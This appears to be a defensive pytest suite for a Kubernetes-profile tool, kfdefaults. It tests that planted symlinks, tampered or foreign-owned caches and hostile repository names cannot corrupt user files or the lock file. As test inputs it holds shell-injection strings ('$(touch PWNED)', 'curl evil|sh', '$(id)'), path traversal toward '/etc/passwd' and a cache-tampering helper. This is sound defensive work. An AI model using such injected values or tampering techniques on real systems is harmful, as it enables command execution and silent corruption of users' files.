"""A pull request's author controls every file of the repository kfdefaults runs in: names, links, keys, values.
What kfdefaults writes there and in its cache must go nowhere a planted link points, the cache must be one no other
user can write, and what the repository names must reach the lock file as data. Each case runs the command line in
a process of its own, as a CI job or a reviewer's shell does; the last test draws planted links and caches of
every kind (seeded, as the hostile-input tests are)."""

from __future__ import annotations

import json
import marshal
import os
import re
import resource
import stat
import subprocess
import sys
import time
import tomllib
from pathlib import Path

import pytest
from budgets import examples
from hypothesis import HealthCheck, example, given, settings
from hypothesis import strategies as st

from kfdefaults.lock.file import SAFE_CHARACTERS, lock_text, read_lock, toml_string, write_lock

KFDEFAULTS = str(Path(sys.executable).parent / "kfdefaults")

FOREIGN_UID = 12345
"""Another user of the machine: the owner of a cache folder that is not ours."""

root_only = pytest.mark.skipif(not hasattr(os, "geteuid") or os.geteuid() != 0,
                               reason="making a folder another user owns takes root")

BIG = """\
description: eight GPUs a node
extends: elastic-gpu-default
elastic:
  nproc_per_node: 8
pod_template:
  spec:
    containers:
      - name: primary
        resources:
          limits:
            nvidia.com/gpu: 8
"""

LONG_AGO = time.time() - 3600


@pytest.fixture
def project(tmp_path: Path) -> Path:
    """A repository as a pull request brings it: a project whose code uses the profile ``big`` (8 GPUs)."""
    root = tmp_path / "repo"
    (root / "profiles").mkdir(parents=True)
    (root / "wf").mkdir()
    (root / "pyproject.toml").write_text('[project]\nname = "vision"\n\n[tool.kfdefaults]\nteam = ["profiles"]\n')
    (root / "profiles" / "big.yaml").write_text(BIG)
    (root / "wf" / "train.py").write_text('from kfdefaults import Elastic\n\nconfig = Elastic(profile="big")\n')
    age(root)
    return root


def age(path: Path) -> None:
    """Date a folder and what it holds an hour back, as files committed long ago are (a render of files changed
    in the last two seconds is not kept for replay)."""
    for p in [path, *path.rglob("*")]:
        os.utime(p, (LONG_AGO, LONG_AGO), follow_symlinks=False)


def environment(cache: Path | str, **more: str) -> dict[str, str]:
    env = {k: v for k, v in os.environ.items() if not k.startswith("KFDEFAULTS_")}
    return {**env, "KFDEFAULTS_CACHE_DIR": str(cache), "KFDEFAULTS_NO_ENTRY_POINTS": "1", **more}


def run(args: list[str], cwd: Path, env: dict[str, str]) -> subprocess.CompletedProcess:
    proc = subprocess.run(args, cwd=cwd, env=env, capture_output=True, text=True, timeout=300)
    assert "Traceback" not in proc.stderr and "internal error" not in proc.stderr, proc.stderr
    return proc


def victim(folder: Path, name: str = ".bashrc") -> Path:
    """A file of the user's outside the repository, which a planted link points at."""
    folder.mkdir(parents=True, exist_ok=True)
    path = folder / name
    path.write_bytes(b"# the user's own file\nexport PATH=$HOME/bin:$PATH\n")
    os.utime(path, (LONG_AGO, LONG_AGO))
    return path


def state(path: Path) -> tuple[bytes, int, int]:
    """The bytes, modification time and mode of ``path``, followed through links."""
    st_ = os.stat(path)
    return path.read_bytes(), st_.st_mtime_ns, st_.st_mode


def gpus(text: str) -> int:
    """The ``nvidia.com/gpu`` limit in a JSON document printed by a render or a script below."""
    found = re.findall(r'"nvidia\.com/gpu": (\d+)', text)
    assert len(set(found)) == 1, text
    return int(found[0])


# --- the lock file and its temporary file --------------------------------------------------------------------


@pytest.mark.slow
def test_a_chain_of_profiles_of_long_lists_is_explained_and_compared_in_seconds(tmp_path: Path) -> None:
    """Four profiles, each extending the last and adding 1,400 environment variables (each file under the size cap):
    the item of each leaf was searched for item by item in its list, and the order of each list's items compared
    the same way, so `diff --format markdown` of the pull request's review took two minutes, `render --as flyte`
    25 s (a chain of 32 such files, hours). The items are looked up in an index. The bound is on the processor time
    the three commands take (about 10 s here, 60 s with the item-by-item search), not on the wall clock, which a
    loaded machine stretches as much."""
    team = tmp_path / "team"
    team.mkdir()
    for k in range(4):
        env = "".join(f"          - {{name: V{k}_{i}, value: x}}\n" for i in range(1400))
        (team / f"p{k}.yaml").write_text((f"extends: p{k - 1}\n" if k else "") + "pod_template:\n  spec:\n"
                                         "    containers:\n      - name: primary\n        env:\n" + env)
    (team / "q.yaml").write_text("extends: p3\nelastic: {nnodes: 2}\n")
    env = {k: v for k, v in os.environ.items() if not k.startswith("KFDEFAULTS_")}
    env.update(KFDEFAULTS_CACHE_DIR=str(tmp_path / "cache"), KFDEFAULTS_NO_ENTRY_POINTS="1")
    before = resource.getrusage(resource.RUSAGE_CHILDREN)
    for args, status in ((["diff", "p3", "q", "--format", "markdown"], 1), (["render", "p3", "--as", "flyte"], 0),
                         (["render", "p3", "--explain"], 0)):
        proc = subprocess.run([KFDEFAULTS, *args, "--team", str(team)], cwd=tmp_path, env=env, capture_output=True,
                              text=True, timeout=900)  # a hang, not a measure
        assert proc.returncode == status, proc.stderr
    after = resource.getrusage(resource.RUSAGE_CHILDREN)
    assert after.ru_utime + after.ru_stime - before.ru_utime - before.ru_stime <= 25  # seconds of processor time
    [line] = [line for line in proc.stdout.splitlines() if "env[name=V3_1399].value" in line]
    assert line.endswith(f"{team / 'p3.yaml'}:1406"), line


def test_a_link_at_the_old_temporary_name_is_not_written_through(project: Path, tmp_path: Path) -> None:
    """``.kfdefaults.lock.tmp -> ~/.bashrc``, shipped by the repository: kfdefaults once wrote the lock's text
    through it and renamed the link to ``kfdefaults.lock``."""
    bashrc = victim(tmp_path / "home")
    before = state(bashrc)
    (project / ".kfdefaults.lock.tmp").symlink_to(bashrc)
    proc = run([KFDEFAULTS, "lock"], project, environment(tmp_path / "cache"))
    assert proc.returncode == 0, proc.stderr
    assert state(bashrc) == before
    lock = project / "kfdefaults.lock"
    assert not lock.is_symlink() and stat.S_ISREG(lock.lstat().st_mode)
    assert list(read_lock(str(lock)).profiles) == ["big"]
    assert os.readlink(project / ".kfdefaults.lock.tmp") == str(bashrc)  # left as the repository had it
    assert sorted(p.name for p in project.iterdir()) == [".kfdefaults.lock.tmp", "kfdefaults.lock", "profiles",
                                                         "pyproject.toml", "wf"]


@pytest.mark.parametrize("args", [["lock"], ["lock", "--upgrade"], ["lock", "big"]])
def test_a_lock_file_that_is_a_link_is_refused(project: Path, tmp_path: Path, args: list[str]) -> None:
    """``kfdefaults.lock -> ~/.bashrc``: exit 1, the link named at FILE:1:1, nothing written anywhere."""
    bashrc = victim(tmp_path / "home")
    before = state(bashrc)
    lock = project / "kfdefaults.lock"
    lock.symlink_to(bashrc)
    proc = run([KFDEFAULTS, *args], project, environment(tmp_path / "cache"))
    assert proc.returncode == 1
    assert proc.stderr.splitlines()[0] == (
        f"{lock}:1:1: the lock file is a symbolic link (to {str(bashrc)!r}): kfdefaults writes no file through a "
        "link; put the file itself in its place (or remove the link) and run `kfdefaults lock` again")
    assert state(bashrc) == before and os.readlink(lock) == str(bashrc)
    assert sorted(p.name for p in project.iterdir()) == ["kfdefaults.lock", "profiles", "pyproject.toml", "wf"]


def test_the_temporary_file_is_never_one_already_there(project: Path, tmp_path: Path, monkeypatch) -> None:
    """The temporary file's name is drawn afresh and created with O_EXCL: a dangling link at the name drawn
    (or at the fixed name of earlier versions) is neither followed nor replaced; the next name is drawn."""
    import tempfile

    planted = {name: tmp_path / "home" / f"made-through-{i}" for i, name in
               enumerate([".kfdefaults.lock.tmp", ".kfdefaults.lock.first.tmp"])}
    for name, target in planted.items():
        (project / name).symlink_to(target)  # dangling: O_CREAT alone would make the file it names
    names = iter(["first", "second"])
    monkeypatch.setattr(tempfile, "_get_candidate_names", lambda: names)
    write_lock(str(project / "kfdefaults.lock"), {"version": 1, "kfdefaults": "0.2.0", "kubernetes_version": "1.32",
                                                  "profiles": {}})
    assert not any(target.exists() for target in planted.values())
    assert all((project / name).is_symlink() for name in planted)
    assert read_lock(str(project / "kfdefaults.lock")).data["profiles"] == {}
    assert not (project / ".kfdefaults.lock.second.tmp").exists()  # renamed into place


def test_a_link_planted_while_the_lock_is_written_is_replaced_not_followed(project: Path, tmp_path: Path,
                                                                          monkeypatch) -> None:
    """A link put at ``kfdefaults.lock`` after the check, as the temporary file is made (by another process of the
    machine): the rename replaces the link itself; what it points at keeps its bytes."""
    import tempfile

    bashrc = victim(tmp_path / "home")
    before = state(bashrc)
    make = tempfile.mkstemp

    def planted_meanwhile(*args, **kwargs):
        made = make(*args, **kwargs)
        (project / "kfdefaults.lock").symlink_to(bashrc)
        return made

    monkeypatch.setattr(tempfile, "mkstemp", planted_meanwhile)
    write_lock(str(project / "kfdefaults.lock"), {"version": 1, "kfdefaults": "0.2.0", "kubernetes_version": "1.32",
                                                  "profiles": {}})
    assert state(bashrc) == before
    assert stat.S_ISREG((project / "kfdefaults.lock").lstat().st_mode)
    assert read_lock(str(project / "kfdefaults.lock")).data["profiles"] == {}


HOSTILE_FOLDER = "$(touch PWNED) `touch PWNED2`; touch PWNED3 | <x> & 'q' \"dq\" \\ é ☃ 𝄞"
"""A team folder named to run commands in a shell that reads the lock file's text."""


@pytest.mark.slow
def test_names_from_the_repository_are_data_in_the_lock_file(project: Path, tmp_path: Path) -> None:
    """The folder's name reaches the lock file escaped: no shell character is written as it is, a shell given the
    lock file's strings runs nothing, and tomllib reads the name back."""
    folder = project / HOSTILE_FOLDER
    folder.mkdir()
    (folder / "evil.yaml").write_text("elastic:\n  nnodes: 2\n")
    (project / "pyproject.toml").write_text('[project]\nname = "vision"\n\n[tool.kfdefaults]\nteam = '
                                            + json.dumps(["profiles", HOSTILE_FOLDER], ensure_ascii=False) + "\n")
    env = environment(tmp_path / "cache")
    assert run([KFDEFAULTS, "lock", "evil"], project, env).returncode == 0
    text = (project / "kfdefaults.lock").read_text(encoding="utf-8")
    strings = re.findall(r'"((?:[^"\\]|\\.)*)"', text)
    assert "\\u0024\\u0028touch PWNED\\u0029 \\u0060touch PWNED2\\u0060\\u003B" in text
    for raw in strings:
        assert set(raw) <= SAFE_CHARACTERS | set("\\0123456789ABCDEFuU"), raw
    shell = tmp_path / "shell"
    shell.mkdir()
    for raw in strings:  # as a script would hand the line's value to a shell: inside double quotes
        subprocess.run(["sh", "-c", f'printf "%s" "{raw}" > /dev/null'], cwd=shell, check=True, timeout=60)
    assert list(shell.iterdir()) == []
    files = [item["file"] for item in read_lock(str(project / "kfdefaults.lock")).profiles["evil"]["files"]]
    assert files == [f"{HOSTILE_FOLDER}/evil.yaml"]
    check = run([KFDEFAULTS, "lock", "--check"], project, env)
    assert check.returncode == 0, check.stderr


@pytest.mark.parametrize("name, code", [("team\u202egnp.yaml", "U+202E"), ("team\nx", "U+000A"),
                                        ("team\x1b[2J", "U+001B")])
def test_a_name_the_lock_file_would_refuse_is_not_written(project: Path, tmp_path: Path, name: str, code: str) -> None:
    """A folder name with a control or bidi character: `kfdefaults lock` writes no lock that it would then refuse
    to read, and says which name."""
    (project / name).mkdir()
    (project / name / "evil.yaml").write_text("elastic:\n  nnodes: 2\n")
    (project / "pyproject.toml").write_text('[project]\nname = "vision"\n\n[tool.kfdefaults]\nteam = '
                                            + json.dumps(["profiles", name], ensure_ascii=False) + "\n")
    proc = run([KFDEFAULTS, "lock", "evil"], project, environment(tmp_path / "cache"))
    assert proc.returncode == 1
    assert proc.stderr == (f"kfdefaults: cannot write {project / 'kfdefaults.lock'}: profiles.evil.files.0.file "
                           f"({name + '/evil.yaml'!r}) must not hold a control or format character ({code})\n")
    assert not (project / "kfdefaults.lock").exists() and not list(project.glob(".kfdefaults.lock*"))


@pytest.mark.slow
@settings(max_examples=examples(300), deadline=None, suppress_health_check=list(HealthCheck))
@given(st.text(st.characters(exclude_categories=["Cs"])))
def test_any_text_is_written_as_a_toml_string_of_safe_characters_that_reads_back(text: str) -> None:
    written = toml_string(text)
    assert set(written[1:-1]) <= SAFE_CHARACTERS | set("\\0123456789ABCDEFuU")
    assert tomllib.loads(f"k = {written}\n") == {"k": text}


names = st.text(st.characters(exclude_categories=["Cs"]), min_size=1, max_size=20)


@pytest.mark.slow
@settings(max_examples=examples(100), deadline=None, suppress_health_check=list(HealthCheck))
@given(st.dictionaries(names, st.fixed_dictionaries({
    "files": st.lists(st.dictionaries(names, names | st.integers(-2**63, 2**63 - 1), max_size=4), min_size=1,
                      max_size=3),
    "flytekit": names}), max_size=3), names)
def test_any_names_and_keys_make_lock_text_that_reads_back(profiles: dict, version: str) -> None:
    """Keys (profile names) and values of any text, in the lock file's shape: the text holds them as data."""
    data = {"version": 1, "kfdefaults": version, "kubernetes_version": "1.32", "profiles": profiles}
    assert tomllib.loads(lock_text(data)) == data


# --- the lock file's fields ----------------------------------------------------------------------------------


@pytest.mark.slow
@pytest.mark.parametrize("old, new, message", [
    ('kubernetes_version = "1.32"', 'kubernetes_version = "../../../etc"',
     "kubernetes_version: must be a Kubernetes minor version this kfdefaults has a schema for"),
    ('kubernetes_version = "1.32"', 'kubernetes_version = "1.99"', "must be a Kubernetes minor version"),
    ('kfdefaults = "', 'kfdefaults = "$(id) ', "kfdefaults: must be a version"),
    ('file = "profiles/big.yaml"', 'file = "/etc/passwd"', "must be a path relative to the lock file's folder"),
    ('file = "profiles/big.yaml"', 'file = "profiles/../../../big.yaml"', "must not climb out of the lock file's folder"),
    ('file = "profiles/big.yaml"', 'file = "profiles/big\\u0000.yaml"', "must not hold a control or format character (U+0000)"),
    ('file = "profiles/big.yaml"', 'file = "profiles/\\u001B[2Jbig.yaml"', "(U+001B)"),
    ('file = "profiles/big.yaml"', 'file = "profiles/\\u202Elmay.gib"', "(U+202E)"),
    ('file = "profiles/big.yaml"', 'file = ""', "must name a file"),
    ('package = "kfdefaults"', 'package = "kfdefaults; curl evil|sh"', "must be a package name"),
    ('"kfdefaults"\nversion = "', '"kfdefaults"\nversion = "$(id)', "version: must be a version"),
])
def test_a_lock_field_no_lock_writes_is_an_error_at_its_line(project: Path, tmp_path: Path, old: str, new: str,
                                                            message: str) -> None:
    env = environment(tmp_path / "cache")
    assert run([KFDEFAULTS, "lock"], project, env).returncode == 0
    lock = project / "kfdefaults.lock"
    text = lock.read_text()
    assert old in text
    edited = text.replace(old, new, 1)
    line = text[: next(i for i, (a, b) in enumerate(zip(text, edited)) if a != b)].count("\n") + 1
    lock.write_text(edited)
    for args in (["lock", "--check"], ["render", "big"]):
        proc = run([KFDEFAULTS, *args], project, env)
        assert proc.returncode == 1 and proc.stdout == "", proc.stderr
        first = proc.stderr.splitlines()[0]
        assert first.startswith(f"{lock}:{line}:") and message in first, (args, proc.stderr)


# --- the cache -----------------------------------------------------------------------------------------------

RESOLVE = """\
import json, kfdefaults
for _ in range(2):  # the warning is said once per process
    print(json.dumps(kfdefaults.resolve("big").pod_template_spec))
"""

ELASTIC = """\
import json
from kfdefaults import Elastic
print(json.dumps(Elastic(profile="big").resolved.pod_template_spec))
"""


def tamper(cache: Path) -> int:
    """As another user who can write the cache would: every entry that says 8 GPUs made to say 1, its digest
    recomputed so that it passes the entry's own check. Returns how many entries were rewritten."""
    from kfdefaults.cache import digest

    def one_gpu(value):
        if isinstance(value, dict):
            return {k: 1 if k == "nvidia.com/gpu" and v == 8 else one_gpu(v) for k, v in value.items()}
        if isinstance(value, list):
            return [one_gpu(v) for v in value]
        return value.replace('"nvidia.com/gpu": 8', '"nvidia.com/gpu": 1') if isinstance(value, str) else value

    rewritten = 0
    for entry in cache.glob("??/*.json"):
        header, _, body = entry.read_bytes().partition(b"\n")
        parts = header.split(b" ")
        fast = parts[1].endswith(b"-marshal")
        value = marshal.loads(body) if fast else json.loads(body)
        if one_gpu(value) != value:
            body = marshal.dumps(one_gpu(value)) if fast else json.dumps(one_gpu(value), separators=(",", ":")).encode()
            entry.write_bytes(b" ".join([*parts[:3], digest(body).encode()]) + b"\n" + body)
            rewritten += 1
    return rewritten


@pytest.mark.slow
@root_only
def test_an_entry_rewritten_in_a_cache_another_user_owns_is_not_used(project: Path, tmp_path: Path) -> None:
    """The cache folder another user owns and can write (KFDEFAULTS_CACHE_DIR on a shared folder): entries
    rewritten there, digests recomputed, once made render, resolve() and Elastic() give 1 GPU where the profile
    says 8. Now the folder is not used, and that is said once per process."""
    cache = tmp_path / "shared"
    cache.mkdir(mode=0o700)
    env = environment(cache)
    commands = {"render": [KFDEFAULTS, "render", "big", "-o", "json"], "resolve": [sys.executable, "-c", RESOLVE],
                "Elastic": [sys.executable, "-c", ELASTIC]}
    for args in (commands["render"], commands["resolve"]):  # the entries, as the same code makes them (same keys)
        assert run(args, project, env).returncode == 0
    assert tamper(cache) >= 2
    # the premise: the cache is the user's own, so its entries are what kfdefaults uses
    assert {name: gpus(run(args, project, env).stdout) for name, args in commands.items()} == \
        {"render": 1, "resolve": 1, "Elastic": 1}
    for path in [cache, *cache.rglob("*")]:
        os.chown(path, FOREIGN_UID, FOREIGN_UID, follow_symlinks=False)
    cache.chmod(0o777)
    warning = (f"kfdefaults: warning: not using the cache at {cache}: it is owned by uid {FOREIGN_UID}, not by this "
               f"user (uid 0)")
    for name, args in commands.items():
        proc = run(args, project, env)
        assert proc.returncode == 0, proc.stderr
        assert gpus(proc.stdout) == 8, name
        assert proc.stderr.splitlines().count(warning) == 1, (name, proc.stderr)


@root_only
def test_an_entry_another_user_owns_is_a_miss_even_in_the_users_own_folder(tmp_path: Path, monkeypatch) -> None:
    """The cache writes only entries of its user: one of another owner (put there by root, a restored backup, a
    clone of someone's folder) is not read, however valid its first line."""
    from kfdefaults import cache as kcache

    monkeypatch.setenv("KFDEFAULTS_CACHE_DIR", str(tmp_path / "cache"))
    entry_key = kcache.key(b"gpus", "test")
    kcache.store(entry_key, {"nvidia.com/gpu": 8})
    [entry] = (tmp_path / "cache").glob("??/*.json")
    assert tamper(tmp_path / "cache") == 1 and kcache.load(entry_key) == {"nvidia.com/gpu": 1}  # the premise
    os.chown(entry, FOREIGN_UID, FOREIGN_UID)
    assert kcache.load(entry_key) is None


@pytest.mark.slow
@pytest.mark.parametrize("mode, said", [(0o777, "it is writable by others (mode 0777)"),
                                        (0o770, "it is writable by its group (mode 0770)"),
                                        (0o702, "it is writable by others (mode 0702)")])
def test_a_cache_folder_others_can_write_is_not_used(project: Path, tmp_path: Path, mode: int, said: str) -> None:
    cache = tmp_path / "cache"
    cache.mkdir()
    cache.chmod(mode)
    proc = run([KFDEFAULTS, "render", "big", "-o", "json"], project, environment(cache))
    assert proc.returncode == 0 and gpus(proc.stdout) == 8
    assert f"kfdefaults: warning: not using the cache at {cache}: {said}" in proc.stderr.splitlines()
    assert list(cache.iterdir()) == []


@pytest.mark.slow
@pytest.mark.parametrize("mode, used", [(0o777, False), (0o1777, True), (0o755, True)])
def test_a_folder_above_the_cache_others_can_write_is_used_only_with_the_sticky_bit(project: Path, tmp_path: Path,
                                                                                    mode: int, used: bool) -> None:
    """Whoever can write the folder above can put another cache folder in its place, unless its sticky bit keeps
    them from renaming what is not theirs (as in /tmp)."""
    above = tmp_path / "shared"
    above.mkdir()
    above.chmod(mode)
    cache = above / "cache"
    proc = run([KFDEFAULTS, "render", "big", "-o", "json"], project, environment(cache))
    assert proc.returncode == 0 and gpus(proc.stdout) == 8
    warned = [line for line in proc.stderr.splitlines() if "not using the cache" in line]
    if used:
        assert warned == [] and stat.S_IMODE(cache.stat().st_mode) == 0o700 and list(cache.glob("??/*.json"))
    else:
        assert warned == [f"kfdefaults: warning: not using the cache at {cache}: the folder above it, {above}, is "
                          f"writable by others (mode {mode:04o}, no sticky bit), who can put another folder in its place"]


@pytest.mark.slow
@pytest.mark.parametrize("owner", ["mine", "foreign folder", "foreign link"])
def test_a_cache_folder_that_is_a_link_is_used_only_if_its_target_and_the_link_are_the_users(
        project: Path, tmp_path: Path, owner: str) -> None:
    """A link to a folder of the user's is used; a link to another user's folder is not, nor a link another user
    made in a folder all can write (/tmp), even to the user's own folder: they could point it elsewhere at any
    time (Linux's fs.protected_symlinks would not follow it; a path resolved by hand would)."""
    if owner != "mine" and os.geteuid() != 0:
        pytest.skip("making a folder another user owns takes root")
    target = tmp_path / "real-cache"
    target.mkdir(mode=0o700)
    shared = tmp_path / "tmp"
    shared.mkdir()
    shared.chmod(0o1777)
    link = shared / "cache"
    link.symlink_to(target)
    if owner == "foreign folder":
        os.chown(target, FOREIGN_UID, FOREIGN_UID)
    if owner == "foreign link":
        os.lchown(link, FOREIGN_UID, FOREIGN_UID)
    proc = run([KFDEFAULTS, "render", "big", "-o", "json"], project, environment(link))
    assert proc.returncode == 0 and gpus(proc.stdout) == 8
    said = {"mine": None, "foreign folder": f"it is owned by uid {FOREIGN_UID}, not by this user (uid 0)",
            "foreign link": f"it is reached through {link}, a symbolic link of uid {FOREIGN_UID}, who can point it "
                            "elsewhere"}[owner]
    warned = [line for line in proc.stderr.splitlines() if "not using the cache" in line]
    assert warned == ([f"kfdefaults: warning: not using the cache at {link}: {said}"] if said else [])
    assert bool(list(target.glob("??/*.json"))) is (said is None)


@pytest.mark.slow
def test_links_at_the_caches_shard_folders_entries_and_stamp_are_not_written_through(project: Path,
                                                                                     tmp_path: Path) -> None:
    """A link at every name the cache writes: each of the 256 shard folders to a folder of the user's, each entry
    and the sweep's stamp to a file of the user's (the stamp's time is past the sweep interval, so the run writes
    it). Nothing they point at changes, not even its time, and the output is the profile's."""
    cache = tmp_path / "cache"
    env = environment(cache)
    first = run([KFDEFAULTS, "render", "big", "-o", "json"], project, env)
    entries = sorted(cache.glob("??/*.json"))
    assert entries and gpus(first.stdout) == 8
    bashrc, elsewhere = victim(tmp_path / "home"), tmp_path / "home" / "folder"
    elsewhere.mkdir()
    before = state(bashrc)
    for entry in entries:
        entry.unlink()
        entry.symlink_to(bashrc)
    for shard in (f"{i:02x}" for i in range(256)):
        if not (cache / shard).exists():
            (cache / shard).symlink_to(elsewhere)
    stamp = cache / ".swept"
    stamp.unlink()
    stamp.symlink_to(bashrc)
    os.utime(stamp, (LONG_AGO, LONG_AGO), follow_symlinks=False)
    again = run([KFDEFAULTS, "render", "big", "-o", "json"], project, env)
    assert again.returncode == 0 and again.stdout == first.stdout
    other = [KFDEFAULTS, "render", "big", "--set", "elastic.nnodes=2", "-o", "json"]  # entries of new keys, whose
    stored = run(other, project, env)                                               # folders are links
    assert stored.returncode == 0 and stored.stdout == run(other, project, {**env, "KFDEFAULTS_NO_CACHE": "1"}).stdout
    assert state(bashrc) == before and list(elsewhere.iterdir()) == []
    assert stat.S_ISREG(stamp.lstat().st_mode)  # written again: a file of its own in the link's place
    assert all(stat.S_ISREG(entry.lstat().st_mode) for entry in entries)  # each written again in place of its link


# --- seeded: planted links and caches of every kind ----------------------------------------------------------

HAZARDS = ("lock-link", "old-temporary-link", "shard-links", "entry-links", "stamp-link", "cache-link-mine",
           "cache-link-foreign", "foreign-link-to-cache", "foreign-cache", "group-writable-cache", "other-writable-cache",
           "open-folder-above")
"""What a repository or another user can plant where kfdefaults writes."""

REFUSED = {"cache-link-foreign", "foreign-link-to-cache", "foreign-cache", "group-writable-cache",
           "other-writable-cache", "open-folder-above"}
"""The hazards that make kfdefaults run without the cache (and say so)."""


@pytest.mark.slow
@settings(max_examples=examples(4), deadline=None, suppress_health_check=list(HealthCheck), database=None)
@given(st.sets(st.sampled_from(HAZARDS), min_size=2, max_size=5), st.sets(st.integers(0, 255), max_size=128))
@example(hazards=set(HAZARDS) - REFUSED, shards=set(range(0, 256, 2)))  # every link where a used cache writes
@example(hazards=REFUSED, shards=set())  # every cache that is not used
def test_generated_planted_links_and_caches_change_nothing(tmp_path_factory, hazards: set[str],
                                                          shards: set[int]) -> None:
    """``kfdefaults lock`` and two renders (the second from the cache, if one is used) amid the drawn hazards:
    every file a link points at keeps its bytes and time, the output is what a run without any cache prints,
    a cache that is not used is said once per run, and a link at the lock file is refused."""
    if {"cache-link-foreign", "foreign-link-to-cache", "foreign-cache"} & hazards and os.geteuid() != 0:
        return  # making a folder another user owns takes root
    tmp = tmp_path_factory.mktemp("planted")
    root = tmp / "repo"
    (root / "profiles").mkdir(parents=True)
    (root / "pyproject.toml").write_text('[project]\nname = "vision"\n\n[tool.kfdefaults]\nteam = ["profiles"]\n')
    (root / "profiles" / "big.yaml").write_text(BIG)
    age(root)
    bashrc, elsewhere = victim(tmp / "home"), tmp / "home" / "folder"
    elsewhere.mkdir()
    above = tmp / "above"
    above.mkdir()
    cache = above / "cache"
    cache.mkdir(mode=0o700)
    if "open-folder-above" in hazards:
        above.chmod(0o777)
    if "group-writable-cache" in hazards:
        cache.chmod(0o770)
    if "other-writable-cache" in hazards:
        cache.chmod(0o707)
    if "foreign-cache" in hazards:
        os.chown(cache, FOREIGN_UID, FOREIGN_UID)
    named = cache
    if {"cache-link-mine", "cache-link-foreign", "foreign-link-to-cache"} & hazards:
        named = tmp / "cache-link"
        named.symlink_to(cache)
        if "cache-link-foreign" in hazards:
            os.chown(cache, FOREIGN_UID, FOREIGN_UID)
        if "foreign-link-to-cache" in hazards:
            os.lchown(named, FOREIGN_UID, FOREIGN_UID)
    if "lock-link" in hazards:
        (root / "kfdefaults.lock").symlink_to(bashrc)
    if "old-temporary-link" in hazards:
        (root / ".kfdefaults.lock.tmp").symlink_to(bashrc)
    if "shard-links" in hazards:
        for i in shards:
            (cache / f"{i:02x}").symlink_to(elsewhere)
    if "stamp-link" in hazards:
        (cache / ".swept").symlink_to(bashrc)
        os.utime(cache / ".swept", (LONG_AGO, LONG_AGO), follow_symlinks=False)
    before = state(bashrc)
    env = environment(named)
    locked = run([KFDEFAULTS, "lock", "big"], root, env)
    if "lock-link" in hazards:  # refused; once the link is gone, written
        assert locked.returncode == 1 and "the lock file is a symbolic link" in locked.stderr
        (root / "kfdefaults.lock").unlink()
        locked = run([KFDEFAULTS, "lock", "big"], root, env)
    assert locked.returncode == 0, locked.stderr
    truth = run([KFDEFAULTS, "render", "big", "-o", "json"], root, {**env, "KFDEFAULTS_NO_CACHE": "1"}).stdout
    assert gpus(truth) == 8
    for turn in range(2):
        proc = run([KFDEFAULTS, "render", "big", "-o", "json"], root, env)
        assert proc.returncode == 0 and proc.stdout == truth, proc.stderr
        warned = [line for line in proc.stderr.splitlines() if "not using the cache" in line]
        assert len(warned) == (1 if REFUSED & hazards else 0), proc.stderr
        if turn == 0 and "entry-links" in hazards:
            for entry in cache.glob("??/*.json"):
                entry.unlink()
                entry.symlink_to(bashrc)
    assert state(bashrc) == before
    assert list(elsewhere.iterdir()) == []
    if REFUSED & hazards:
        assert not list(cache.glob("??/*.json"))
